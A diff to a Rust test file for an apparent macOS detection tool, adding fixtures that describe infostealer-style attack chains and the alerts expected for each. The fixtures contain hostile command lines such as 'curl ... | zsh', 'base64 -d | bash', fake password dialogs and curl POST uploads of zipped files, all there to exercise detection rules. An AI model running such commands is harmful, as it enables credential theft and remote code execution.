@@ -1,4 +1,4 @@
-//! Attack chains of 2025 and 2026, each in a few lines: which rules alert with those that are on by default, and which
+//! Attack chains of 2023 to 2026, each in a few lines: which rules alert with those that are on by default, and which
 //! with all; what stays silent is named in docs/rules.md.
 
 use std::collections::BTreeMap;
@@ -24,7 +24,7 @@ struct Chain {
 
 const CHAIN: Chain = Chain { name: "", events: "", alerts: &[], off: &[], silent: "" };
 
-const CHAINS: [Chain; 44] = [
+const CHAINS: [Chain; 53] = [
     Chain {
         name: "a pasted curl | osascript and its child curl",
         events: "0 z=zsh; 1 c=curl < z : -s https://a.example; 1 o=osascript < z; 2 c -> 93.184.216.34; 3 d=curl < o; 4 d -> 93.184.216.35",
@@ -212,7 +212,7 @@ const CHAINS: [Chain; 44] = [
     Chain {
         name: "a download piped into osascript under another name, whose curl connects",
         events: "0 z=zsh; 1 c=curl < z : -s https://a.example; 1 !com.apple.osascript u=/private/tmp/updater < z; 3 d=curl < u; 4 d -> 93.184.216.35",
-        alerts: &["osascript-renamed-descendant-network-connection"],
+        alerts: &["osascript-piped-download"],
         ..CHAIN
     },
     Chain {
@@ -285,6 +285,60 @@ const CHAINS: [Chain; 44] = [
         name: "a package's script",
         events: "0 n=node; 1 s=sh < n; 2 o=osascript < s : -e 1; 3 c=curl < o; 4 c -> 93.184.216.34",
         alerts: &["osascript-descendant-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a launch agent that asks the name service for its address and runs JavaScript",
+        events: "0 b=bash < 1 : /Users/a/.x; 1 d=dig < b : +short TXT a.example; 1 d end; 2 o=osascript < b : -l JavaScript -e 1; 3 s=sh < o; 3 c=curl < s; 4 c -> 93.184.216.35",
+        alerts: &["osascript-descendant-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a program that asks by a shell and uploads itself",
+        events: "0 b=Converter; 1 s=sh < b : -c 'osascript -e \"display dialog 1 with hidden answer\"'; 1 o=osascript < s : -e 'display dialog 1 with hidden answer'; 20 o end; 40 b -> 93.184.216.34",
+        alerts: &["osascript-dialog-parent-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a pasted base64 -d | bash, its payload's dialog and upload",
+        events: "0 z=zsh; 1 d=base64 < z : -d; 1 b=bash < z; 2 c=curl < b : -s https://a.example; 2 n=bash < b; 3 c -> 93.184.216.34; 4 o=osascript < n : -e 'display dialog 1 with hidden answer'; 20 o end; 25 t=ditto < n : -c -k /tmp/o /tmp/o.zip; 27 u=curl < n : -X POST --data-binary @/tmp/o.zip https://a.example; 28 u -> 93.184.216.34",
+        alerts: &["osascript-dialog-sibling-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "one script that asks, collects and uploads by its own shell",
+        events: "0 b=Installer; 1 o=osascript < b : -e 'display dialog 1 with hidden answer'; 9 s=sh < o; 9 p=system_profiler < s; 70 t=sh < o; 71 c=curl < t : -X POST --data-binary @/tmp/o.zip http://a.example; 72 c -> 93.184.216.34",
+        alerts: &["osascript-dialog-sibling-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a link to Script Editor whose script fetches a program",
+        events: "0 e=Script Editor < 1; 5 s=sh < e : -c 'curl -fsSL https://a.example | zsh'; 5 c=curl < s; 5 y=zsh < s; 6 c -> 93.184.216.34; 8 o=osascript < y : -e 'display dialog 1 with hidden answer'; 20 o end; 30 u=curl < y; 31 u -> 93.184.216.35",
+        alerts: &["script-editor-descendant-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a dialog of a script by a package's script",
+        events: "0 n=node; 1 s=sh < n : -c 'node setup.js'; 1 m=node < s; 2 h=sh < m : -c 'osascript -l JavaScript -e app.displayDialog(1,{hiddenAnswer:true})'; 2 o=osascript < h : -l JavaScript -e 'app.displayDialog(1,{hiddenAnswer:true})'; 9 o end; 12 m -> 93.184.216.34",
+        alerts: &["osascript-dialog-parent-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a script that hides the window of the terminal, and a payload of the same shell",
+        events: "0 z=zsh; 1 p=/tmp/update < z; 1 o=osascript < z : -e 'tell application \"Terminal\" to set visible of front window to false'; 3 p -> 93.184.216.34",
+        silent: "beside an osascript",
+        ..CHAIN
+    },
+    Chain {
+        name: "JavaScript that a substitution downloads",
+        events: "0 z=zsh; 1 c=curl < z : -s https://a.example; 2 c end; 2 o=osascript < z : -l JavaScript -e 'var a = 1'; 40 o -> 93.184.216.35",
+        alerts: &["osascript-late-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a dialog of a script that a shell gives by a here-document, and an upload",
+        events: "0 b=Setup; 1 o=osascript < b; 20 o end; 21 b -> 93.184.216.34",
+        silent: "a dialog of a script that is no argument",
         ..CHAIN
     },
     Chain {
@@ -429,4 +483,18 @@ fn every_destination_of_a_chain_is_told_in_an_alert_or_in_a_follow_up_of_it() {
             assert!(told.contains(address), "{}: {address} in {told}", chain.name);
         }
     }
+}
+
+#[test]
+fn a_piped_download_is_told_with_what_ran_it_whatever_that_is_called() {
+    let alerts = replay(&[]).alerts();
+    let name = "a download piped into osascript under another name, whose curl connects";
+    let alert = alerts.iter().find(|alert| alert["host"]["id"] == name).unwrap();
+    assert_eq!(alert["osawatch"]["download"]["command_line"], "curl -s https://a.example", "{alert}");
+    assert_eq!(alert["process"]["executable"], "/private/tmp/updater", "{alert}");
+    let reason = alert["kibana.alert.reason"].as_str().or(alert["event"]["reason"].as_str()).unwrap();
+    assert!(
+        reason.starts_with("updater (pid 502)") && reason.ends_with("the download is curl -s https://a.example"),
+        "{reason}"
+    );
 }
